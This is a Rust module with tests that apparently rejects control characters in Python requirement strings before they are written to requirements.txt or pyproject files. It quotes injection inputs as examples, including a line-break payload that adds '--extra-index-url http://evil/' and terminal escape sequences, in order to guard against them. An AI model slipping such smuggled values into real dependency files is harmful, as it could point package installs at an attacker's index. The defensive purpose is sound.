//! Control characters in a requirement Darwinix is asked to write. A line break ends a line of
//! `requirements.txt`, so `numpy\n--extra-index-url http://evil/` would become two lines, the
//! second an option pip and uv obey; a tab, an escape or a NUL is never part of a package name,
//! version, marker or address either. Every editor refuses them before it writes, and names
//! the part that holds one, because the character itself is invisible in the message.

/// Where in a requirement a control character was found, in words.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hidden {
    /// The package's name as typed, without the control characters; the whole requirement,
    /// shown escaped, when it has no name before them.
    pub name: String,
    /// `name`, `extras list`, `version`, `marker` or `address`.
    pub part: &'static str,
    /// `a line break (U+000A)`.
    pub character: String,
}

impl std::fmt::Display for Hidden {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let Hidden {
            name,
            part,
            character,
        } = self;
        write!(f, "the {part} of `{name}` holds {character}")
    }
}

impl From<Hidden> for crate::error::Error {
    fn from(hidden: Hidden) -> Self {
        crate::error::Error::ControlCharacter {
            name: hidden.name,
            part: hidden.part,
            character: hidden.character,
        }
    }
}

/// A character that must not be written into a setup file: the C0 and C1 controls and DEL,
/// and the Unicode line and paragraph separators, which pip's `str.splitlines()` also ends a
/// line at.
pub fn is_hidden(c: char) -> bool {
    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')
}

/// The first control character in `requirement` (its surrounding whitespace, which no editor
/// writes, aside), and the part of it that holds the character.
pub fn find(requirement: &str) -> Option<Hidden> {
    let text = requirement.trim();
    let (at, c) = text.char_indices().find(|&(_, c)| is_hidden(c))?;
    let name_end = text
        .find(|c: char| c.is_whitespace() || "[(;@<>=!~,".contains(c))
        .unwrap_or(text.len());
    let name: String = text[..name_end]
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || "-_.".contains(*c))
        .collect();
    Some(Hidden {
        name: if name.is_empty() { shown(text) } else { name },
        part: part_at(text, name_end, at),
        character: described(c),
    })
}

/// Which part of `text` (its name ending at `name_end`) byte `at` is in. The gap before a part
/// belongs to it: `numpy\n--index-url …` holds the line break in its version.
fn part_at(text: &str, name_end: usize, at: usize) -> &'static str {
    if at < name_end {
        return "name";
    }
    let mut start = name_end;
    if text[start..].trim_start().starts_with('[') {
        let end = text[start..]
            .find(']')
            .map_or(text.len(), |i| start + i + 1);
        if at < end {
            return "extras list";
        }
        start = end;
    }
    let rest = &text[start..];
    let address = rest.trim_start().starts_with('@');
    // A marker after an address must follow whitespace (PEP 508): `;` may be in the address.
    let marker = if address {
        rest.find([' ', '\t', '\n', '\r'])
            .and_then(|gap| rest[gap..].find(';').map(|i| gap + i))
    } else {
        rest.find(';')
    };
    match marker {
        Some(m) if at >= start + m => "marker",
        _ if address => "address",
        _ => "version",
    }
}

/// `a line break (U+000A)`: what the character is, and its code to find it by.
fn described(c: char) -> String {
    let what = match c {
        '\n' | '\r' | '\u{0b}' | '\u{0c}' | '\u{85}' | '\u{2028}' | '\u{2029}' => "a line break",
        '\t' => "a tab",
        '\u{1b}' => "an escape character",
        '\0' => "a NUL character",
        _ => "a control character",
    };
    format!("{what} ({})", code(c))
}

fn code(c: char) -> String {
    format!("U+{:04X}", u32::from(c))
}

/// `text` with each control character written as its code (`a\u{1b}b` → `a<U+001B>b`), safe to
/// put in a message a terminal prints.
pub fn shown(text: &str) -> String {
    text.chars()
        .map(|c| {
            if is_hidden(c) {
                format!("<{}>", code(c))
            } else {
                c.to_string()
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(requirement: &str) -> String {
        find(requirement)
            .unwrap_or_else(|| panic!("{requirement:?} was let through"))
            .to_string()
    }

    #[test]
    fn each_part_that_holds_a_control_character_is_named() {
        let cases: &[(&str, &str)] = &[
            (
                "numpy\n--extra-index-url http://127.0.0.1:9/",
                "the version of `numpy` holds a line break (U+000A)",
            ),
            (
                "numpy[a\nb]",
                "the extras list of `numpy` holds a line break (U+000A)",
            ),
            (
                "numpy; python_version>'3'\n-e .",
                "the marker of `numpy` holds a line break (U+000A)",
            ),
            (
                "numpy @ https://example.org/n.whl\r\n-e .",
                "the address of `numpy` holds a line break (U+000D)",
            ),
            (
                "numpy @ https://example.org/n.whl ; os_name == 'a\nb'",
                "the marker of `numpy` holds a line break (U+000A)",
            ),
            ("numpy\t==2", "the version of `numpy` holds a tab (U+0009)"),
            (
                "numpy==2\u{1b}[8m",
                "the version of `numpy` holds an escape character (U+001B)",
            ),
            (
                "num\0py",
                "the name of `numpy` holds a NUL character (U+0000)",
            ),
            (
                "numpy>=1\u{2028}-e .",
                "the version of `numpy` holds a line break (U+2028)",
            ),
            (
                "pandas==2\u{7f}",
                "the version of `pandas` holds a control character (U+007F)",
            ),
            (
                "\u{1b}[2J",
                "the name of `<U+001B>[2J` holds an escape character (U+001B)",
            ),
        ];
        for (requirement, want) in cases {
            assert_eq!(said(requirement), *want, "{requirement:?}");
        }
    }

    #[test]
    fn requirements_without_one_pass_and_outer_whitespace_is_not_counted() {
        for fine in [
            "numpy",
            "pandas[excel, plot] >=2,<3 ; python_version > '3.8'",
            "seaborn @ https://example.org/s.whl",
            "  numpy>=2\n",
            "ñumpy",
        ] {
            assert_eq!(find(fine), None, "{fine:?}");
        }
    }

    #[test]
    fn shown_text_has_no_control_characters_left() {
        assert_eq!(shown("a\u{1b}b\nc ñ"), "a<U+001B>b<U+000A>c ñ");
    }

    /// The inputs that wrote extra lines into requirements.txt, against both editors: refused,
    /// with the file's text untouched (an `Err` carries no new text).
    #[test]
    fn the_editors_refuse_what_would_add_a_line() {
        use super::super::edit::{add, Refusal};
        use super::super::pyproject_edit;
        let pyproject = "[project]\nname = \"p\"\ndependencies = [\"pandas\"]\n";
        for (requirement, part) in [
            ("numpy\n--extra-index-url http://127.0.0.1:9/", "version"),
            ("numpy[a\nb]", "extras list"),
            ("numpy; python_version>'3'\n-e .", "marker"),
            ("numpy\t==2", "version"),
            ("numpy==2\u{1b}[8m", "version"),
            ("numpy\0", "name"),
        ] {
            for refused in [
                add("pandas\n", requirement),
                add("numpy\n", requirement),
                pyproject_edit::add(pyproject, requirement),
            ] {
                match refused {
                    Err(Refusal::Hidden(hidden)) => {
                        assert_eq!((hidden.name.as_str(), hidden.part), ("numpy", part))
                    }
                    other => panic!("{requirement:?}: {other:?}"),
                }
            }
        }
    }
}
